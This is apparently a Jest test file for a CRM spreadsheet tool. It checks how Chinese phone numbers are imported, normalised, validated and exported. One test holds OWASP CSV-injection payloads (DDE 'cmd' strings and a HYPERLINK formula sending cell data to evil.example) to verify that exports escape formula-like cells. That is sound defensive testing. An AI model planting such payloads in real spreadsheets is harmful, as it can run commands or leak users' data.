/**
 * Issue 13 §3, phones, through the built bundle and the CLI (en and zh-CN): a typical Chinese CRM export imports
 * every row with its phones in the one stored form; the New customer form takes `13800138000`; Check data accepts
 * the ways Chinese teams write numbers and names the bad ones; the template's phone rule agrees in the sheet; and
 * an export re-imports with nothing lost. Every run at a fixed --now.
 */
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import Papa from 'papaparse';
import { main } from '../../cli/salesdesk';
import { LocalRuntime } from '../../runtime';
import { readTable } from '../../src/core/table';
import { columnHeaders } from '../../templates';

jest.setTimeout(180_000);

const NOW = '2026-11-23T09:00';
const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'salesdesk-phones-'));
const blank = { en: path.join(dir, 'blank-en.xlsx'), 'zh-CN': path.join(dir, 'blank-zh.xlsx') };
const CUSTOMERS = { en: 'Customers', 'zh-CN': '客户' };

async function cli(...argv: string[]): Promise<{ code: number; out: string; err: string }> {
  let out = '';
  let err = '';
  const code = await main([...argv, '--now', NOW], {
    stdout: (text) => void (out += text.endsWith('\n') ? text : `${text}\n`),
    stderr: (text) => void (err += text.endsWith('\n') ? text : `${text}\n`),
  });
  return { code, out, err };
}

/** The Customers sheet of a workbook, whatever language it is named in. */
function customersSheet(rt: LocalRuntime) {
  const sheet = rt.workbook.sheetByName(CUSTOMERS.en) ?? rt.workbook.sheetByName(CUSTOMERS['zh-CN']);
  if (!sheet) throw new Error('no Customers sheet');
  return sheet;
}

async function customerRows(file: string): Promise<Record<string, unknown>[]> {
  const rt = await LocalRuntime.fromXlsx(file);
  const values = rt.workbook.sheetValues(customersSheet(rt).name);
  const table = readTable(values, columnHeaders('customers'));
  return table.rows
    .filter((row) => row.some((cell) => cell !== ''))
    .map((row) =>
      Object.fromEntries(
        Object.entries(table.columns).map(([key, i]) => [key, i === undefined ? undefined : row[i]]),
      ),
    );
}

// A CRM export as Chinese teams have them: bare 11-digit mobiles, spaces, hyphens, +86, 0086, landlines.
const CRM = [
  '客户名称,联系人,手机,邮箱',
  '北京星河科技有限公司,张伟,13800138000,',
  '上海远航贸易有限公司,李娜,138 0013 8001,',
  '广州嘉禾电子有限公司,王芳,138-0013-8002,',
  '深圳前海物流有限公司,刘洋,+86 138 0013 8003,',
  '成都天府软件有限公司,陈静,0086 138 0013 8004,',
  '北京国信咨询有限公司,杨磊,010-12345678,',
  '深圳南山制造有限公司,赵敏,0755-1234567,',
].join('\r\n');
const STORED = [
  '+86 138 0013 8000',
  '+86 138 0013 8001',
  '+86 138 0013 8002',
  '+86 138 0013 8003',
  '+86 138 0013 8004',
  '+86 10 1234 5678',
  '+86 755 123 4567',
];

beforeAll(async () => {
  for (const [locale, file] of Object.entries(blank))
    expect((await cli('setup', '--out', file, '--locale', locale)).code).toBe(0);
});

describe.each(['en', 'zh-CN'] as const)('phones in a %s workbook', (locale) => {
  const imported = path.join(dir, `imported-${locale}.xlsx`);

  it('imports every row of a Chinese CRM export, phones in one stored form', async () => {
    const csv = path.join(dir, `crm-${locale}.csv`);
    fs.writeFileSync(csv, CRM);
    const run = await cli(
      'import-csv',
      csv,
      '--in',
      blank[locale],
      '--out',
      imported,
      '--locale',
      locale,
      '--json',
    );
    expect(run.code).toBe(0);
    expect(JSON.parse(run.out)).toMatchObject({ ok: true, added: 7, bad: 0 });
    expect((await customerRows(imported)).map((row) => row.phone)).toEqual(STORED);
    const check = await cli('validate', '--in', imported, '--locale', locale);
    expect(check.code).toBe(0);
  });

  it('an export re-imports with nothing lost', async () => {
    const csv = path.join(dir, `export-${locale}.csv`);
    expect((await cli('export-csv', '--in', imported, '--sheet', CUSTOMERS[locale], '--csv', csv)).code).toBe(
      0,
    );
    // Phones are written with the international prefix 00: not formula-like, so no apostrophe for Excel to show...
    const text = fs.readFileSync(csv, 'utf8');
    expect(text).toContain(',0086 138 0013 8000,');
    expect(text).toContain(',0086 10 1234 5678,');
    expect(text).not.toContain("'");
    // ...and the import reads them back in the stored +86 form: all rows back, every field as it was.
    const again = path.join(dir, `again-${locale}.xlsx`);
    const run = await cli('import-csv', csv, '--in', blank[locale], '--out', again, '--json');
    expect(JSON.parse(run.out)).toMatchObject({ ok: true, added: 7, bad: 0 });
    const keys = ['id', 'company', 'contact', 'phone', 'email', 'owner', 'created'];
    const pick = (row: Record<string, unknown>) => keys.map((key) => row[key]);
    expect((await customerRows(again)).map(pick)).toEqual((await customerRows(imported)).map(pick));
  });

  it('guards only formula-like text (the OWASP CSV-injection cases) and re-imports it as text', async () => {
    const payloads = [
      "=cmd|' /C calc'!A0",
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+9)*cmd|' /C calc'!A0",
      '\t=1+1',
    ];
    const quoted = (value: string) => `"${value.replace(/"/g, '""')}"`;
    const input = [
      '客户名称,联系人,手机,备注',
      ...payloads.map((payload, i) =>
        [quoted(payload), `联系人${i}`, `139 1234 56${10 + i}`, quoted(payload)].join(','),
      ),
      '普通公司,王五,+44 20 7946 0000,a=b; call at 10:00',
    ].join('\r\n');
    const source = path.join(dir, `owasp-${locale}.csv`);
    fs.writeFileSync(source, input);
    const book = path.join(dir, `owasp-${locale}.xlsx`);
    const first = await cli('import-csv', source, '--in', blank[locale], '--out', book, '--json');
    expect(JSON.parse(first.out)).toMatchObject({ ok: true, added: payloads.length + 1, bad: 0 });

    const csv = path.join(dir, `owasp-export-${locale}.csv`);
    expect((await cli('export-csv', '--in', book, '--sheet', CUSTOMERS[locale], '--csv', csv)).code).toBe(0);
    const rows = Papa.parse<string[]>(fs.readFileSync(csv, 'utf8').replace(/^\ufeff/, ''), {
      skipEmptyLines: true,
    }).data;
    const column = (key: string) => {
      const spec = columnHeaders('customers').find((c) => c.key === key)!;
      return rows[0].findIndex((h) => spec.headers.includes(h));
    };
    const body = rows.slice(1);
    // Every cell a spreadsheet would run as a formula carries the guard; no other cell does.
    for (const row of body)
      for (const cell of row)
        expect({ cell, guarded: cell.startsWith("'") }).toEqual({
          cell,
          guarded: /^'[=+\-@\t\r]/.test(cell),
        });
    // (The import trims cells, so the tab payload is stored, and exported, as `=1+1`.)
    const stored = payloads.map((p) => p.trim());
    expect(body.map((row) => row[column('company')])).toEqual([...stored.map((p) => `'${p}`), '普通公司']);
    expect(body.map((row) => row[column('phone')])).toEqual([
      ...payloads.map((_, i) => `0086 139 1234 56${10 + i}`),
      '0044 20 7946 0000',
    ]);

    const again = path.join(dir, `owasp-again-${locale}.xlsx`);
    const second = await cli('import-csv', csv, '--in', blank[locale], '--out', again, '--json');
    expect(JSON.parse(second.out)).toMatchObject({ ok: true, added: payloads.length + 1, bad: 0 });
    const keys = ['company', 'contact', 'phone', 'notes'];
    const pick = (row: Record<string, unknown>) => keys.map((key) => row[key]);
    const back = (await customerRows(again)).map(pick);
    expect(back).toEqual((await customerRows(book)).map(pick));
    expect(back.map((row) => row[0])).toEqual([...stored, '普通公司']);
    // Stored as text, never as formulas.
    const rt = await LocalRuntime.fromXlsx(again);
    const formulas = (rt.workbook as unknown as { sheetFormulas(name: string): string[][] }).sheetFormulas(
      customersSheet(rt).name,
    );
    expect(
      formulas.flat().filter((f) => f !== '' && payloads.some((p) => f.includes(p.slice(1, 8)))),
    ).toEqual([]);
  });

  it('Check data accepts how Chinese teams write numbers and names the bad ones; the sheet rule agrees', async () => {
    const rt = await LocalRuntime.fromXlsx(blank[locale], { now: '2026-11-23T01:00:00Z' });
    const sheet = customersSheet(rt);
    const values = rt.workbook.sheetValues(sheet.name);
    const header = values[0].map(String);
    const column = (key: string) => {
      const spec = columnHeaders('customers').find((c) => c.key === key)!;
      return header.findIndex((h) => spec.headers.includes(h));
    };
    const phones = [
      '13800138000',
      '138 0013 8000',
      '+86 139 1234 5678',
      '010-12345678',
      '1380013800',
      '+86 1355 5918 4254',
    ];
    const rows = phones.map((phone, i) => {
      const row = header.map(() => '' as unknown);
      row[column('id')] = `C-${i + 1}`;
      row[column('company')] = `Company ${i + 1}`;
      row[column('contact')] = `Contact ${i + 1}`;
      row[column('phone')] = phone;
      return row;
    });
    const ss = rt.workbook;
    ss.writeValues(sheet, { row: 2, column: 1, numRows: rows.length, numColumns: header.length }, rows);
    const report = rt.call<{
      problems: { row: number; code: string; column: string; message: string; sheet: string }[];
    }>('apiValidateWorkbook', undefined, { user: 'owner@salesdesk.example', locale });
    const phoneProblems = report.problems.filter((p) => p.code === 'phone');
    expect(phoneProblems.map((p) => p.row)).toEqual([6, 7]);
    expect(phoneProblems[0].sheet).toBe(CUSTOMERS[locale]);
    expect(phoneProblems[0].message).toContain(locale === 'en' ? '11 digits' : '11 位');
    // Duplicates: 13800138000 and 138 0013 8000 are one number.
    expect(report.problems.filter((p) => p.code === 'duplicatePhone').map((p) => p.row)).toEqual([3]);
    // The template's data-validation rule flags the same two cells.
    const flagged = ss.validationFailures(sheet.name).filter((f) => f.column === column('phone') + 1);
    expect(flagged.map((f) => f.row)).toEqual([6, 7]);
  });

  it('the New customer form takes 13800138000 and stores +86 138 0013 8000', async () => {
    const rt = await LocalRuntime.fromXlsx(blank[locale], { now: '2026-11-23T01:00:00Z' });
    const who = { user: 'owner@salesdesk.example', locale };
    const saved = rt.call<{ status: string; errors?: Record<string, string> }>(
      'apiSaveCustomer',
      { customer: { company: '杭州西湖茶业有限公司', contact: '周杰', phone: '13800138000' } },
      who,
    );
    expect(saved).toMatchObject({ status: 'saved' });
    const bad = rt.call<{ status: string; errors?: Record<string, string> }>(
      'apiSaveCustomer',
      { customer: { company: 'Short Number Ltd', contact: 'Ann', phone: '1380013800' } },
      who,
    );
    expect(bad.status).toBe('invalid');
    expect(bad.errors?.phone).toContain(locale === 'en' ? '11 digits' : '11 位');
    const file = path.join(dir, `form-${locale}.xlsx`);
    await rt.saveXlsx(file);
    expect((await customerRows(file)).map((row) => row.phone)).toEqual(['+86 138 0013 8000']);
  });
});
